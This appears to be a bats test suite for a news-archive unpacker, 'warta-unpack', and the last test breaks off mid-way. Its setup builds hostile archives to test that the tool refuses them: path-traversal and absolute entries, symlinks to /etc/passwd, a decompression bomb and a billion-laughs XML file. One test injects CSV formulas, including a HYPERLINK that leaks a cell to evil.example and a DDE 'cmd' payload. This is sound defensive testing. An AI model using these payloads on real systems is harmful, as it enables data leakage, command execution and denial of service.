#!/usr/bin/env bats
# t0700-unpack: warta-unpack as a program, on a bundle made here from the
# samples by warta-normalize | warta-meta | warta-pack: the listings (table,
# TSV, JSON), every selector alone and together, the stream and the round
# trip back to the same bytes, extraction under -C (the three files, the
# originals byte for byte, no overwriting, no following a link), every
# format warta-pack writes and a bag made by other tools, archives crafted
# to do harm, and usage errors.

load common

SEED=$SAMPLES/semarang-maritim-purwanto.txt
SEED_GUID=urn:newsml:maritim.example:20210810:0fb56732ef35c24e
SEED_PATH=data/items/2021/08/10/40c6dce68aa18455.xml
SEED_STEM=2021/08/10/40c6dce68aa18455
NAME=maritim-samples
BAGIT='BagIt-Version: 1.0
Tag-File-Character-Encoding: UTF-8'

# One bundle for the file, made as the README makes it; its catalog and
# its stream, which several tests read; and, in one python3 run (python3
# takes most of a second of CPU to start on a loaded machine), the crafted
# archives: evil/KIND.tar and evilzip/KIND.zip, each a bag "evil" holding
# bagit.txt, a good item data/x.xml (the seed, as the bag() below holds
# it) and one entry of KIND; $F/pwned is where an absolute entry would
# land if it were written; bomb.tar.gz, 300 MB of zeros; lol.xml, the
# seed's item with a billion laughs.
setup_file() {
	local d=$BATS_FILE_TMPDIR
	warta-normalize -q -p maritim.example "$SAMPLES"/*.txt |
	    warta-meta --source 'Harian Maritim' 2>/dev/null |
	    warta-pack -q -o "$d/$NAME.tar.gz"
	tar -xzOf "$d/$NAME.tar.gz" "$NAME/data/catalog.tsv" >"$d/catalog.tsv"
	warta-unpack "$d/$NAME.tar.gz" >"$d/all.xml"
	warta-normalize -q "$SEED" >"$d/item.xml"
	mkdir "$d/evil" "$d/evilzip"
	python3 - "$d" <<-'EOF'
	import gzip, io, sys, tarfile, zipfile
	d = sys.argv[1]
	item = open(d + "/item.xml", "rb").read()
	bagit = b"BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n"

	def add(tf, name, data=item, **kw):
	    ti = tarfile.TarInfo(name)
	    for k, v in kw.items():
	        setattr(ti, k, v)
	    if ti.type == tarfile.REGTYPE:
	        ti.size = len(data)
	        tf.addfile(ti, io.BytesIO(data))
	    else:
	        tf.addfile(ti)
	bad = {
	    "abs": dict(name=d + "/pwned/abs.xml"),
	    "dotdot": dict(name="evil/data/../../../pwned/dotdot.xml"),
	    "symlink": dict(name="evil/data/link.xml", type=tarfile.SYMTYPE,
	        linkname="/etc/passwd"),
	    "hardlink": dict(name="evil/data/hard.xml", type=tarfile.LNKTYPE,
	        linkname="/etc/passwd"),
	    "device": dict(name="evil/data/dev.xml", type=tarfile.CHRTYPE,
	        devmajor=1, devminor=3),
	    "fifo": dict(name="evil/data/fifo.xml", type=tarfile.FIFOTYPE),
	}
	for kind in bad:
	    with tarfile.open("%s/evil/%s.tar" % (d, kind), "w",
	            format=tarfile.GNU_FORMAT) as tf:
	        add(tf, "evil/bagit.txt", bagit)
	        add(tf, "evil/data/x.xml")
	        add(tf, **bad[kind])

	def zbag(name, bad, data=item, mode=None):
	    with zipfile.ZipFile(d + "/evilzip/" + name, "w") as z:
	        z.writestr("evil/bagit.txt", bagit.decode())
	        z.writestr("evil/data/x.xml", item)
	        zi = zipfile.ZipInfo(bad)
	        if mode is not None:
	            zi.create_system = 3
	            zi.external_attr = mode << 16
	        z.writestr(zi, data)
	zbag("abs.zip", d + "/pwned/abs.xml")
	zbag("dotdot.zip", "evil/data/../../../pwned/dotdot.xml")
	zbag("symlink.zip", "evil/data/link.xml", b"/etc/passwd", 0o120777)

	class Zeros(io.RawIOBase):
	    def __init__(self, n): self.n = n
	    def readable(self): return True
	    def readinto(self, b):
	        k = min(len(b), self.n); b[:k] = bytes(k); self.n -= k; return k
	n = 100 << 20
	with gzip.open(d + "/bomb.tar.gz", "wb", compresslevel=9) as g:
	    with tarfile.open(fileobj=g, mode="w", format=tarfile.GNU_FORMAT) as t:
	        ti = tarfile.TarInfo("bomb/bagit.txt"); ti.size = len(bagit)
	        t.addfile(ti, io.BytesIO(bagit))
	        for i in range(3):
	            ti = tarfile.TarInfo("bomb/data/zeros%d.xml" % i); ti.size = n
	            t.addfile(ti, io.BufferedReader(Zeros(n)))

	s = open(d + "/item.xml").read()
	lol = '<!DOCTYPE newsItem [<!ENTITY lol "lol">' + "".join(
	    '<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10)
	    for i in range(1, 10)) + "]>"
	s = s.replace("?>", "?>\n" + lol, 1).replace("<p>", "<p>&lol9;", 1)
	open(d + "/lol.xml", "w").write(s)
	EOF
}

setup() {
	T=$BATS_TEST_TMPDIR
	F=$BATS_FILE_TMPDIR
	B=$F/$NAME.tar.gz
	local s=("$SAMPLES"/*.txt)
	NITEMS=${#s[@]}
}

# guids FILE: the guids of the items in FILE, one a line.
guids() {
	grep -o '<newsItem [^>]*guid="[^"]*"' "$1" | sed 's/.*guid="//; s/"$//'
}

# selected ARGS...: the guids warta-unpack -t --tsv selects, sorted, one a
# line.  It must exit 0.
selected() {
	warta-unpack -t --tsv "$@" "$B" | awk -F '\t' 'NR > 1 { print $1 }' | sort
}

# count LIST: the lines in LIST, as wc -l counts the output of what gave
# it (none when it is empty).
count() {
	if [ -z "$1" ]; then
		echo 0
	else
		local nl=${1//[!$'\n']/}
		echo $((${#nl} + 1))
	fi
}

# catalog_guids AWK-CONDITION: the guids of the catalog lines for which
# the condition on the catalog.tsv fields holds ($3 date, $4 place, $5
# byline, $8 language), sorted.
catalog_guids() {
	awk -F '\t' "NR > 1 && ($1) { print \$1 }" "$F/catalog.tsv" | sort
}

# same WHAT GOT WANT: two lists of guids, shown when they differ.
same() {
	[ "$2" = "$3" ] || {
		echo "$1: got" >&2
		printf '%s\n' "$2" >&2
		echo "want" >&2
		printf '%s\n' "$3" >&2
		return 1
	}
}

# bag DIR NAME: a minimal bag as another tool makes it (bagit.txt, a
# manifest, data/x.xml holding the seed's item as warta-normalize -q gives
# it, made once in setup_file, no catalog) at DIR/NAME.
bag() {
	mkdir -p "$1/$2/data"
	printf '%s\n' "$BAGIT" >"$1/$2/bagit.txt"
	cp "$F/item.xml" "$1/$2/data/x.xml"
	(cd "$1/$2" && sha256sum data/x.xml >manifest-sha256.txt)
}

# zip_dir ZIP DIR NAME: DIR/NAME zipped, with zip or else python3.
zip_dir() {
	if command -v zip >/dev/null; then
		(cd "$2" && zip -qr "$1" "$3")
	else
		python3 - "$1" "$2" "$3" <<-'EOF'
		import os, sys, zipfile
		out, top, name = sys.argv[1:]
		with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
		    for d, _, files in os.walk(os.path.join(top, name)):
		        for f in files:
		            p = os.path.join(d, f)
		            z.write(p, os.path.relpath(p, top))
		EOF
	fi
}

# usage_error ARGS...: exit 2, nothing on stdout, one line on stderr that
# begins with the program's name.
usage_error() {
	qrun -2 warta-unpack "$@"
	[ -z "$output" ] || { echo "stdout for $*: $output"; return 1; }
	[ "${#stderr_lines[@]}" -eq 1 ] || { echo "stderr for $*: $stderr"; return 1; }
	[[ $stderr == "warta-unpack: "* ]] || { echo "stderr for $*: $stderr"; return 1; }
}

@test "-t: a table, two lines an item, the seed's fields, no line over 100 columns" {
	qrun -0 warta-unpack -t "$B"
	[ -z "$stderr" ]
	expect lines "${#lines[@]}" $((1 + 2 * NITEMS))
	expect header "${lines[0]}" 'DATE       PLACE            BYLINE            WORDS TITLE / GUID / PATH'
	# In date order: the oldest sample first (1987 wire copy).
	[[ ${lines[1]} == '1987-03-03 '* ]] || { echo "line 1: ${lines[1]}"; return 1; }
	local l n s
	for ((s = 1; s < ${#lines[@]}; s += 2)); do
		[[ ${lines[s + 1]} == *"$SEED_GUID"* ]] && break
	done
	[[ ${lines[s]} == '2021-08-10 Semarang         Purwanto            299 Dalam upaya menerapkan reformasi'* ]] ||
	    { echo "line $s: ${lines[s]}"; return 1; }
	expect "line $((s + 1))" "${lines[s + 1]}" "           $SEED_GUID  $SEED_PATH"
	# Not a terminal: the first line of an item is cut to 100 columns.
	# (${#l} counts characters in the locale, as wc -m does.)
	for ((n = 1; n < ${#lines[@]}; n += 2)); do
		l=${lines[n]}
		[ "${#l}" -le 100 ] || { echo "over 100 columns: $l"; return 1; }
	done
	[[ ${lines[s]} == *… ]] || { echo "the long title is not cut: ${lines[s]}"; return 1; }
}

@test "-t --tsv: the header, one line of 7 fields an item, the catalog's values" {
	qrun -0 warta-unpack -t --tsv "$B"
	[ -z "$stderr" ]
	expect header "${lines[0]}" "$(printf 'guid\tdate\tplace\tbyline\ttitle\twords\tpath')"
	expect rows $((${#lines[@]} - 1)) "$NITEMS"
	printf '%s\n' "${lines[@]}" >"$T/list.tsv"
	run -0 awk -F '\t' 'NF != 7 { print NR ": " NF " fields" }' "$T/list.tsv"
	[ -z "$output" ]
	run -0 awk -F '\t' -v g="$SEED_GUID" '$1 == g { print $2 "|" $3 "|" $4 "|" $6 "|" $7 }' "$T/list.tsv"
	expect seed "$output" "2021-08-10|Semarang|Purwanto|299|$SEED_PATH"
	# The same as the bundle's own catalog, field for field.
	tar -xzOf "$B" "$NAME/data/catalog.tsv" |
	    awk -F '\t' 'BEGIN { OFS = "\t" } NR > 1 { print $1, $3, $4, $5, $6, $7, "data/" $9 }' |
	    sort >"$T/want"
	tail -n +2 "$T/list.tsv" | sort >"$T/got"
	diff "$T/want" "$T/got"
}

@test "-t --tsv and the table: the header even when nothing is selected" {
	qrun -0 warta-unpack -t --tsv --guid nothing "$B"
	[ -z "$stderr" ]
	expect tsv "$output" "$(printf 'guid\tdate\tplace\tbyline\ttitle\twords\tpath')"
	qrun -0 warta-unpack -t --guid nothing "$B"
	expect table "$output" 'DATE       PLACE            BYLINE            WORDS TITLE / GUID / PATH'
	qrun -0 warta-unpack -t --json --guid nothing "$B"
	[ -z "$output" ]
}

@test "-t --json: jq parses every line; the seed's fields; words a number" {
	warta-unpack -t --json "$B" >"$T/list.json"
	expect lines "$(wc -l <"$T/list.json")" "$NITEMS"
	# One jq reads each line as a JSON text of its own and names those
	# that are not an object.
	run -0 jq -R -r 'select((try fromjson catch null | type) != "object") |
	    "line \(input_line_number) is not a JSON object: \(.)"' "$T/list.json"
	expect "lines not a JSON object" "$output" ""
	run -0 jq -r 'keys_unsorted | join(",")' "$T/list.json"
	expect keys "$(printf '%s\n' "${lines[@]}" | sort -u)" guid,date,place,byline,title,words,path
	run -0 jq -r --arg g "$SEED_GUID" 'select(.guid == $g) |
	    [.date, .place, .byline, (.words | type), (.words | tostring), .path] | join("|")' "$T/list.json"
	expect seed "$output" "2021-08-10|Semarang|Purwanto|number|299|$SEED_PATH"
	run -0 jq -r --arg g "$SEED_GUID" 'select(.guid == $g) | .title' "$T/list.json"
	[[ $output == 'Dalam upaya menerapkan reformasi birokrasi'*'Selasa (10/8/2021).' ]]
	# The same guids as the TSV.
	same guids "$(jq -r .guid "$T/list.json" | sort)" "$(selected)"
}

@test "a formula from a sidecar: quoted in catalog.tsv and -t --tsv, as it was in --json and to --byline" {
	local title='=HYPERLINK("http://evil.example/?leak="&A1,"click")'
	local byline="+cmd|'/C calc'!A0"
	warta-normalize -q -p maritim.example "$SEED" >"$T/seed.xml"
	printf 'file,headline,byline\n%s,"%s","%s"\n' "$(basename "$SEED")" \
	    "${title//\"/\"\"}" "$byline" >"$T/side.csv"
	warta-meta --no-find --sidecar "$T/side.csv" "$T/seed.xml" 2>/dev/null >"$T/m.xml"
	warta-pack -q -o "$T/f.tar.gz" "$T/m.xml"
	# The bundle's catalog: a quote before each, nothing else changed.
	run -0 bash -c "tar -xzOf '$T/f.tar.gz' f/data/catalog.tsv | tail -n +2 | cut -f 2-6"
	expect catalog.tsv "$output" "$(printf "2\t2021-08-10\tSemarang\t'%s\t'%s" "$byline" "$title")"
	# The listing for scripts: the same cells.
	local want
	want=$(printf "%s\t2021-08-10\tSemarang\t'%s\t'%s\t%s" "$SEED_GUID" \
	    "$byline" "$title" "$SEED_PATH")
	run -0 bash -c "warta-unpack -t --tsv '$T/f.tar.gz' | cut -f 1-5,7"
	expect tsv "${lines[1]}" "$want"
	# Listed from the items rather than the catalog (--grep reads them):
	# the same line.
	run -0 bash -c "warta-unpack -t --tsv --grep Semarang '$T/f.tar.gz' | cut -f 1-5,7"
	expect 'tsv from the items' "${lines[1]}" "$want"
	# JSON and the selectors see the values as they were.
	qrun -0 warta-unpack -t --json --byline '+cmd|' "$T/f.tar.gz"
	expect lines "${#lines[@]}" 1
	run -0 jq -r '.byline, .title' <<<"$output"
	expect json "$output" "$byline
$title"
	run -0 warta-verify -q "$T/f.tar.gz"
}

@test "selectors alone: --guid, --date (year, month, day, ranges), --byline, --place, --lang" {
	local got
	same "--guid" "$(selected --guid "$SEED_GUID")" "$SEED_GUID"
	same "--guid none" "$(selected --guid urn:newsml:maritim.example:nothing)" ""
	got=$(selected --date 2021)
	same "--date 2021" "$got" "$(catalog_guids '$3 ~ /^2021/')"
	expect "--date 2021 count" "$(count "$got")" 2
	got=$(selected --date 2022-08)
	same "--date 2022-08" "$got" "$(catalog_guids '$3 ~ /^2022-08/')"
	expect "--date 2022-08 count" "$(count "$got")" 1
	same "--date 2023-03-14" "$(selected --date 2023-03-14)" "$(catalog_guids '$3 == "2023-03-14"')"
	same "--date 2021-08-11" "$(selected --date 2021-08-11)" ""
	got=$(selected --date 2022..2023-03)
	same "--date 2022..2023-03" "$got" \
	    "$(catalog_guids '$3 >= "2022" && $3 <= "2023-03-31"')"
	expect "--date 2022..2023-03 count" "$(count "$got")" 4
	same "--date 2021-08-10..2022-02-03" "$(selected --date 2021-08-10..2022-02-03)" \
	    "$(catalog_guids '$3 >= "2021-08-10" && $3 <= "2022-02-03"')"
	got=$(selected --date ..2022)
	same "--date ..2022" "$got" "$(catalog_guids '$3 != "" && $3 <= "2022-12-31"')"
	# As many as the golden items of samples/ dated 2022 or before.
	expect "--date ..2022 count" "$(count "$got")" \
	    "$(grep -h -o '<contentCreated[^>]*>[^<]*' "$SAMPLES"/*.xml |
	    awk '{ sub(/.*>/, "") } $0 <= "2022-12-31" { n++ } END { print n + 0 }')"
	got=$(selected --date 2023-03-14..)
	same "--date 2023-03-14.." "$got" "$(catalog_guids '$3 >= "2023-03-14"')"
	expect "--date 2023-03-14.. count" "$(count "$got")" 1
	# An undated item (most samples name no date) is in no range.
	# As many as the golden items of samples/ without a date.
	expect undated "$(catalog_guids '$3 == ""' | wc -l)" \
	    "$(grep -L '<contentCreated>' "$SAMPLES"/*.xml | wc -l)"
	same "--date ..2999" "$(selected --date ..2999)" "$(catalog_guids '$3 != ""')"
	same "--date 1000.." "$(selected --date 1000..)" "$(catalog_guids '$3 != ""')"
	same "--byline purwanto" "$(selected --byline purwanto)" "$SEED_GUID"
	same "--byline 'jane DOE'" "$(selected --byline 'jane DOE')" "$(catalog_guids 'tolower($5) ~ /jane doe/')"
	same "--place SEMAR" "$(selected --place SEMAR)" "$SEED_GUID"
	got=$(selected --place jakarta)
	same "--place jakarta" "$got" "$(catalog_guids '$4 == "Jakarta"')"
	expect "--place jakarta count" "$(count "$got")" 9
	got=$(selected --lang en)
	same "--lang en" "$got" "$(catalog_guids '$8 ~ /^en(-|$)/')"
	# As many as the golden items of samples/ in English.
	expect "--lang en count" "$(count "$got")" \
	    "$(grep -l '<language tag="en"/>' "$SAMPLES"/*.xml | wc -l)"
	same "--lang ID" "$(selected --lang ID)" "$(catalog_guids '$8 ~ /^id(-|$)/')"
	same "--lang e" "$(selected --lang e)" ""
}

@test "selectors alone: --subject by code and by name, --grep with a regex" {
	local items all=$F/all.xml
	same "--subject 'Anwar Sanusi'" "$(selected --subject 'Anwar Sanusi')" "$SEED_GUID"
	same "--subject 'anwar sanusi'" "$(selected --subject 'anwar sanusi')" "$SEED_GUID"
	same "--subject Kemnaker" "$(selected --subject Kemnaker)" "$SEED_GUID"
	same "--subject medtop:09000000" "$(selected --subject medtop:09000000)" "$SEED_GUID"
	# medtop:04000000: every item that has it, and a part of a code is no code.
	items=$(warta-unpack --subject medtop:04000000 "$B" | guids /dev/stdin | sort)
	expect "medtop:04000000 count" "$(printf '%s\n' "$items" | wc -l)" \
	    "$(grep -c 'qcode="medtop:04000000"' "$all")"
	same "--subject medtop:04000000 -t" "$(selected --subject medtop:04000000)" "$items"
	same "--subject medtop:04" "$(selected --subject medtop:04)" ""
	same "--subject nobody" "$(selected --subject 'Nobody Atall')" ""
	same "--grep 'BBPLK\\s+Semarang'" "$(selected --grep 'BBPLK\s+Semarang')" "$SEED_GUID"
	same "--grep 'bbplk'" "$(selected --grep 'bbplk')" ""
	same "--grep '(?i)bbplk'" "$(selected --grep '(?i)bbplk')" "$SEED_GUID"
	# \b and a class on UTF-8 text: the items whose text has "petani".
	# The text of every item of the stream (warta-unpack "$B", made in
	# setup_file) at once, a form feed line between items, in the order
	# of their guids; grep -iw picks the lines with the word and the form
	# feed lines, which say whose item a line is in.
	local want="" g ids=() i=0 l
	mapfile -t ids < <(guids "$all")
	expect "stream items" "${#ids[@]}" "$NITEMS"
	while IFS= read -r l; do
		if [ "$l" = $'\f' ]; then
			i=$((i + 1))
		elif [[ $want != *"${ids[i]}"$'\n'* ]]; then
			want+="${ids[i]}"$'\n'
		fi
	done < <(warta-text "$all" | grep -iw -e petani -e $'^\f$')
	expect "items in the text" "$((i + 1))" "$NITEMS"
	same "--grep '(?i)\\bpetani\\b'" "$(selected --grep '(?i)\bpetani\b')" \
	    "$(printf '%s' "$want" | sort)"
	[ -n "$want" ]
	# A listing by subject or text gives the catalog's rows for them.
	diff <(warta-unpack -t --tsv --guid "$SEED_GUID" "$B") \
	    <(warta-unpack -t --tsv --subject 'Anwar Sanusi' "$B")
}

@test "selectors combined: all must match" {
	local got
	same "five" "$(selected --date 2021-08-10 --lang id --byline purwanto \
	    --place semarang --subject Anwar --grep Sekjen)" "$SEED_GUID"
	same "--guid --date" "$(selected --guid "$SEED_GUID" --date 2021-08)" "$SEED_GUID"
	same "--guid, another date" "$(selected --guid "$SEED_GUID" --date 2022)" ""
	same "--byline, another language" "$(selected --byline purwanto --lang en)" ""
	got=$(selected --date 2021 --lang en)
	same "--date 2021 --lang en" "$got" \
	    "$(catalog_guids '$3 ~ /^2021/ && $8 ~ /^en/')"
	expect "--date 2021 --lang en count" "$(count "$got")" 1
	# The Jakarta items name no date: no range holds them.
	expect "--place jakarta" "$(count "$(selected --place jakarta)")" 9
	same "--place jakarta --date ..2023" "$(selected --place jakarta --date ..2023)" ""
	same "--place semarang --date ..2023" "$(selected --place semarang --date ..2023)" "$SEED_GUID"
	same "--subject Semarang --grep Sekjen" "$(selected --subject Semarang --grep Sekjen)" "$SEED_GUID"
	same "--subject Anwar --grep nothing-here" "$(selected --subject Anwar --grep nothing-here)" ""
	# The same selection in every mode.
	qrun -0 warta-unpack -C "$T/x" --date 2021 --lang en "$B"
	expect summary "$stderr" "warta-unpack: 1 of $NITEMS items selected, 3 files written"
	run -0 warta-unpack --date 2021 --lang en "$B"
	same stream "$(guids <(printf '%s\n' "$output"))" "$(selected --date 2021 --lang en)"
}

@test "stream: every item, a newsMessage; one item alone; none: nothing; it validates" {
	qrun -0 warta-unpack "$B"
	[ -z "$stderr" ]
	printf '%s\n' "$output" >"$T/all.xml"
	expect items "$(grep -c '<newsItem ' "$T/all.xml")" "$NITEMS"
	same guids "$(guids "$T/all.xml" | sort)" "$(selected)"
	xmllint --nonet --noout "$T/all.xml"
	[ "$(xmllint --nonet --xpath 'local-name(/*)' "$T/all.xml")" = newsMessage ]
	warta-unpack --guid "$SEED_GUID" "$B" >"$T/one.xml"
	[ "$(xmllint --nonet --xpath 'local-name(/*)' "$T/one.xml")" = newsItem ]
	# The item as the bundle holds it.
	tar -xzOf "$B" "$NAME/$SEED_PATH" | cmp - "$T/one.xml"
	run -0 warta-text "$T/one.xml"
	has text "$output" 'SEMARANG-MARITIM: Dalam upaya menerapkan reformasi birokrasi'
	qrun -0 warta-unpack --guid nothing "$B"
	[ -z "$output" ]
	[ -z "$stderr" ]
	validate "$T/all.xml"
	validate "$T/one.xml"
}

@test "round trip: unpack, then pack under the same name: the same bytes (SOURCE_DATE_EPOCH set)" {
	mkdir "$T/again"
	warta-unpack "$B" | warta-pack -q -o "$T/again/$NAME.tar.gz"
	cmp "$T/again/$NAME.tar.gz" "$B"
	# Through warta-meta with nothing to change, and from a zip.
	warta-unpack "$B" | warta-pack -q -o "$T/$NAME.zip"
	mkdir "$T/z"
	warta-unpack "$T/$NAME.zip" | warta-pack -q -o "$T/z/$NAME.zip"
	cmp "$T/z/$NAME.zip" "$T/$NAME.zip"
}

@test "round trip: the same bytes with SOURCE_DATE_EPOCH unset" {
	unset SOURCE_DATE_EPOCH
	warta-normalize -q -p maritim.example "$SAMPLES"/*.txt |
	    warta-meta --source 'Harian Maritim' 2>/dev/null |
	    warta-pack -q -o "$T/$NAME.tar.gz"
	mkdir "$T/again"
	warta-unpack "$T/$NAME.tar.gz" | warta-pack -q -o "$T/again/$NAME.tar.gz"
	cmp "$T/again/$NAME.tar.gz" "$T/$NAME.tar.gz"
}

@test "-C: three files an item; the originals are the samples; the text is warta-text's" {
	qrun -0 warta-unpack -C "$T/out" "$B"
	[ -z "$output" ]
	expect summary "$stderr" "warta-unpack: $NITEMS of $NITEMS items selected, $((3 * NITEMS)) files written"
	local d=$T/out/$NAME/data
	expect items "$(find "$d/items" -type f -name '*.xml' | wc -l)" "$NITEMS"
	expect originals "$(find "$d/originals" -type f -name '*.txt' | wc -l)" "$NITEMS"
	expect texts "$(find "$d/text" -type f -name '*.txt' | wc -l)" "$NITEMS"
	expect "all files" "$(find "$T/out" -type f | wc -l)" $((3 * NITEMS))
	# Every sample's bytes, once each.
	diff <(cd "$SAMPLES" && sha256sum ./*.txt | cut -c1-64 | sort) \
	    <(cd "$d/originals" && find . -type f -exec sha256sum {} + | cut -c1-64 | sort)
	cmp "$SEED" "$d/originals/$SEED_STEM.txt"
	# Every item as the bag holds it, every text as warta-text prints it.
	tar -xzf "$B" -C "$T" "$NAME/data/items"
	diff -r "$T/$NAME/data/items" "$d/items"
	# One warta-text for every item: its output is each item's text, a
	# form feed line between items, so it must be the text files, in the
	# same order, joined so.  Only when it differs is each item run alone,
	# to name the one.
	local f stem items=() want=() text
	mapfile -t items < <(find "$d/items" -type f)
	for f in "${items[@]}"; do
		stem=${f#"$d/items/"}
		stem=${stem%.xml}
		[ -f "$d/originals/$stem.txt" ] || { echo "no original for $stem"; return 1; }
		[ -f "$d/text/$stem.txt" ] || { echo "no text for $stem"; return 1; }
		IFS= read -r -d '' text <"$d/text/$stem.txt" || true
		[ "${#want[@]}" -eq 0 ] || want+=($'\f\n')
		want+=("$text")
	done
	printf '%s' "${want[@]}" >"$T/texts.want"
	warta-text "${items[@]}" >"$T/texts.got"
	cmp -s "$T/texts.want" "$T/texts.got" || {
		for f in "${items[@]}"; do
			stem=${f#"$d/items/"}
			stem=${stem%.xml}
			warta-text "$f" | cmp - "$d/text/$stem.txt" ||
			    { echo "text of $stem"; return 1; }
		done
		echo "warta-text of the items differs from the texts joined"
		return 1
	}
	run -0 head -1 "$d/text/$SEED_STEM.txt"
	[[ $output == 'SEMARANG-MARITIM: Dalam upaya'* ]]
}

@test "-C: an existing file is not replaced without --force (exit 1, untouched); --force replaces" {
	local d=$T/out/$NAME/data
	warta-unpack -C "$T/out" --guid "$SEED_GUID" "$B" 2>/dev/null
	echo 'a librarian wrote this' >"$d/text/$SEED_STEM.txt"
	rm "$d/originals/$SEED_STEM.txt"
	qrun -1 warta-unpack -C "$T/out" --guid "$SEED_GUID" "$B"
	has stderr "$stderr" \
	    "warta-unpack: $B: $T/out/$NAME/data/text/$SEED_STEM.txt: exists; give --force to replace it" \
	    "warta-unpack: $B: $T/out/$NAME/data/items/$SEED_STEM.xml: exists; give --force to replace it"
	has stderr "$stderr" "warta-unpack: 1 of $NITEMS items selected, 1 files written"
	expect untouched "$(cat "$d/text/$SEED_STEM.txt")" 'a librarian wrote this'
	# The missing one was written all the same.
	cmp "$SEED" "$d/originals/$SEED_STEM.txt"
	qrun -0 warta-unpack -C "$T/out" --force --guid "$SEED_GUID" "$B"
	expect summary "$stderr" "warta-unpack: 1 of $NITEMS items selected, 3 files written"
	warta-unpack --guid "$SEED_GUID" "$B" | warta-text | cmp - "$d/text/$SEED_STEM.txt"
	cmp "$SEED" "$d/originals/$SEED_STEM.txt"
}

@test "-C: under a long directory name, a message keeps the whole path and the reason" {
	# 30 levels of 15 characters: 450 bytes of directory, more than a
	# fixed 512-byte message has room for with the bag's own path.
	local long=$T/long i
	for i in $(seq 30); do long=$long/aaaaaaaaaaaaaa; done
	mkdir -p "$long"
	warta-unpack -C "$long" --guid "$SEED_GUID" "$B" 2>/dev/null
	qrun -1 warta-unpack -C "$long" --guid "$SEED_GUID" "$B"
	has stderr "$stderr" \
	    "$long/$NAME/data/items/$SEED_STEM.xml: exists; give --force to replace it"
}

@test "-C: a symbolic link planted in DIR is never followed" {
	mkdir -p "$T/out" "$T/elsewhere"
	ln -s "$T/elsewhere" "$T/out/$NAME"
	qrun -1 warta-unpack -C "$T/out" --date 2021 "$B"
	has stderr "$stderr" "warta-unpack: $B: $T/out/$NAME: not a directory (a link is never followed)"
	has stderr "$stderr" "warta-unpack: 2 of $NITEMS items selected, 0 files written"
	[ -z "$(ls -A "$T/elsewhere")" ]
	# Deeper down: data/items is a link; the items are not written through it.
	rm "$T/out/$NAME"
	mkdir -p "$T/out/$NAME/data"
	ln -s "$T/elsewhere" "$T/out/$NAME/data/items"
	qrun -1 warta-unpack -C "$T/out" --guid "$SEED_GUID" "$B"
	has stderr "$stderr" "$T/out/$NAME/data/items: not a directory (a link is never followed)"
	[ -z "$(ls -A "$T/elsewhere")" ]
	# The file itself a link to a file elsewhere, with --force.
	rm -r "$T/out/$NAME/data/items" "$T/out/$NAME/data/text"
	mkdir -p "$T/out/$NAME/data/text/2021/08/10"
	echo precious >"$T/elsewhere/precious"
	ln -s "$T/elsewhere/precious" "$T/out/$NAME/data/text/$SEED_STEM.txt"
	qrun -1 warta-unpack -C "$T/out" --force --guid "$SEED_GUID" "$B"
	has stderr "$stderr" "$T/out/$NAME/data/text/$SEED_STEM.txt"
	expect untouched "$(cat "$T/elsewhere/precious")" precious
}

@test "formats: every format warta-pack writes, and tar.bz2, list and stream alike" {
	local f
	# $F/all.xml: warta-unpack "$B", made in setup_file.
	cp "$F/all.xml" "$T/all.xml"
	warta-unpack -t --tsv "$B" >"$T/want.tsv"
	for f in tar.zst tar.xz tar zip; do
		warta-pack -q -o "$T/$NAME.$f" "$T/all.xml"
		warta-unpack -t --tsv "$T/$NAME.$f" | diff "$T/want.tsv" - ||
		    { echo "listing of $f"; return 1; }
		warta-unpack "$T/$NAME.$f" | cmp - "$T/all.xml" ||
		    { echo "stream of $f"; return 1; }
	done
	bzip2 -k "$T/$NAME.tar"
	warta-unpack -t --tsv "$T/$NAME.tar.bz2" | diff "$T/want.tsv" -
	warta-unpack --guid "$SEED_GUID" "$T/$NAME.zip" |
	    cmp - <(tar -xzOf "$B" "$NAME/$SEED_PATH")
}

@test "another tool's bag (no catalog), GNU tar and zip: listed, streamed, extracted" {
	local f
	bag "$T" otherbag
	tar -czf "$T/other.tar.gz" -C "$T" otherbag
	zip_dir "$T/other.zip" "$T" otherbag
	for f in other.tar.gz other.zip; do
		qrun -0 warta-unpack -t --tsv "$T/$f"
		[ -z "$stderr" ]
		expect "$f rows" "${#lines[@]}" 2
		[[ ${lines[1]} == "urn:newsml:warta.invalid:20210810:0fb56732ef35c24e"$'\t2021-08-10\tSemarang\tPurwanto\t'*$'\tdata/x.xml' ]] ||
		    { echo "$f: ${lines[1]}"; return 1; }
		run -0 warta-unpack -t "$T/$f"
		has "$f table" "$output" '2021-08-10 Semarang         Purwanto' \
		    'urn:newsml:warta.invalid:20210810:0fb56732ef35c24e  data/x.xml'
		warta-unpack "$T/$f" >"$T/$f.xml"
		expect "$f guids" "$(guids "$T/$f.xml")" urn:newsml:warta.invalid:20210810:0fb56732ef35c24e
		diff <(warta-text "$T/otherbag/data/x.xml") <(warta-text "$T/$f.xml")
		qrun -0 warta-unpack -C "$T/x-$f" "$T/$f"
		expect "$f summary" "$stderr" "warta-unpack: 1 of 1 items selected, 3 files written"
		cmp "$T/otherbag/data/x.xml" "$T/x-$f/otherbag/data/items/x.xml"
		cmp "$SEED" "$T/x-$f/otherbag/data/originals/x.txt"
		warta-text "$T/otherbag/data/x.xml" | cmp - "$T/x-$f/otherbag/data/text/x.txt"
		# A selector reads the items of a bag with no catalog too.
		expect "$f --place" "$(warta-unpack -t --tsv --place semarang "$T/$f" | wc -l)" 2
		expect "$f --place none" "$(warta-unpack -t --tsv --place jakarta "$T/$f" | tail -n +2 | wc -l)" 0
	done
}

@test "-t on a bag with no catalog: listed after a bundle that failed, and beside a refused entry" {
	bag "$T" otherbag
	tar -czf "$T/other.tar.gz" -C "$T" otherbag
	# A bundle that cannot be read, then the good bag: the bag is listed.
	qrun -1 warta-unpack -t --tsv "$T/nothing.tar.gz" "$T/other.tar.gz"
	has stderr "$stderr" "$T/nothing.tar.gz"
	expect "after a failed bundle" "$(printf '%s\n' "$output" | tail -n +2 | cut -f1)" \
	    urn:newsml:warta.invalid:20210810:0fb56732ef35c24e
	# A symbolic link beside the item: refused, and the item still listed,
	# as the stream and -C give it.
	cp "$F/evil/symlink.tar" "$T/evil.tar"
	qrun -1 warta-unpack "$T/evil.tar"
	expect "stream items" "$(grep -c '<newsItem ' <<<"$output")" 1
	qrun -1 warta-unpack -t --tsv "$T/evil.tar"
	has stderr "$stderr" 'evil/data/link.xml: a symbolic link refused'
